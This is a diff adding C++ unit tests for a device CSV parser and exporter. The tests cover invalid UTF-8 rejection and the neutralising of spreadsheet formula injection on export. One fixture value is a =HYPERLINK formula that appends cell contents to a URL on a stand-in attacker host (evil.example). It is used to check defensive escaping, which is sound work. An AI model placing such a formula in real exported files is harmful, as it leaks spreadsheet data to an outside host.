@@ -81,6 +81,21 @@ TEST(DeviceCsvTest, EveryBadRowAndColumnIsListed) {
   EXPECT_THAT(m, HasSubstr("row 10: has 3 fields, the header has 9"));
 }
 
+TEST(DeviceCsvTest, InvalidUtf8IsRefusedNamingRowAndColumn) {
+  std::string csv = std::string(kHeader) +
+                    "1001,secret-1001,21001,pw,Desk \xC0\xAF,,,,\n"        // overlong
+                    "1002,secret-1002,21002,pw,,,Paris \xED\xA0\x80,,\n"   // surrogate
+                    "1003,secret-1003,21003,pw,,,,FR/\xF4\x90\x80\x80,\n"  // > U+10FFFF
+                    "1004,secret-\xC3\xA9,21004,pw,,,,,\n";                // not ASCII
+  auto r = ParseDeviceCsv(csv, true);
+  ASSERT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument);
+  std::string m = Message(r);
+  EXPECT_THAT(m, HasSubstr("row 2, column description: is not valid UTF-8"));
+  EXPECT_THAT(m, HasSubstr("row 3, column site: is not valid UTF-8"));
+  EXPECT_THAT(m, HasSubstr("row 4, column location: is not valid UTF-8"));
+  EXPECT_THAT(m, HasSubstr("row 5, column set_password: may hold only printable ASCII"));
+}
+
 TEST(DeviceCsvTest, MalformedQuotingIsRefused) {
   std::string csv = std::string(kHeader) + "1001,\"unterminated,21001,pw,,,,,\n";
   auto r = ParseDeviceCsv(csv, true);
@@ -125,6 +140,49 @@ TEST(DeviceCsvTest, ExportParsesBackIdentically) {
   ASSERT_TRUE(r.ok()) << r.status();
   ASSERT_EQ(r->size(), 1u);
   EXPECT_EQ((*r)[0].device.SerializeAsString(), d.SerializeAsString());
+}
+
+TEST(DeviceCsvTest, FormulasAreNeutralisedOnExport) {
+  adminpb::Device d;
+  d.set_set_username("1001");
+  d.set_set_password("-starts-with-minus");
+  d.set_icp_username("21001");
+  d.set_icp_password("@sum(1)");
+  d.set_description("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+  d.set_site("+33 Paris");
+  d.set_location("'=already quoted");
+  std::string csv = WriteDeviceCsv({d});
+  EXPECT_THAT(csv, HasSubstr("\"'-starts-with-minus\""));
+  EXPECT_THAT(csv, HasSubstr("\"'@sum(1)\""));
+  EXPECT_THAT(csv, HasSubstr("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
+  EXPECT_THAT(csv, HasSubstr("\"'+33 Paris\""));
+  EXPECT_THAT(csv, HasSubstr("\"''=already quoted\""));
+  // No cell of a data row starts with a formula character once unquoted.
+  EXPECT_THAT(csv, Not(HasSubstr("\"=")));
+  EXPECT_THAT(csv, Not(HasSubstr("\"-")));
+  EXPECT_THAT(csv, Not(HasSubstr("\"@")));
+  EXPECT_THAT(csv, Not(HasSubstr("\"+")));
+
+  // Imported back, every field is the original.
+  auto r = ParseDeviceCsv(csv, true);
+  ASSERT_TRUE(r.ok()) << r.status();
+  ASSERT_EQ(r->size(), 1u);
+  EXPECT_EQ((*r)[0].device.SerializeAsString(), d.SerializeAsString());
+}
+
+TEST(DeviceCsvTest, CellEscapingRule) {
+  for (const char* v : {"=1+2", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x", "'", "''", "'abc",
+                        "a=b", "", "plain", "''"}) {
+    EXPECT_EQ(UnescapeCsvCell(EscapeCsvCell(v)), v) << v;
+  }
+  EXPECT_EQ(EscapeCsvCell("=1+2"), "'=1+2");
+  EXPECT_EQ(EscapeCsvCell("\tx"), "'\tx");
+  EXPECT_EQ(EscapeCsvCell("'abc"), "'abc");
+  EXPECT_EQ(EscapeCsvCell("a=b"), "a=b");
+  // Hand-written cells: only a quote before a formula character is taken away.
+  EXPECT_EQ(UnescapeCsvCell("'=SUM(A1)"), "=SUM(A1)");
+  EXPECT_EQ(UnescapeCsvCell("'abc"), "'abc");
+  EXPECT_EQ(UnescapeCsvCell("=SUM(A1)"), "=SUM(A1)");
 }
 
 }  // namespace
